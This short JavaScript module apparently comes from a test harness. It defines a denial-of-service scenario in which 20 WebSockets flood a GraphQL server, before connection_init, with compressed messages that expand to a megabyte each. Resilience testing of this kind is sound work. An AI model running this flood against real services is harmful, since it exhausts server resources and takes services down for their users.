// A compressed message of 2 KB that decompresses to a megabyte, on 20 WebSockets, before any `connection_init`.
import { flood, keepWebSockets } from "../websockets.mjs";

const message = JSON.stringify({ type: "ping", payload: { x: "0".repeat(1_000_000) } });

export default {
  run({ graphql, signal, sent }) {
    keepWebSockets(20, graphql, signal, (socket) => flood(socket, signal, () => {
      sent();
      socket.send(message);
    }), { early: true });
  },
};
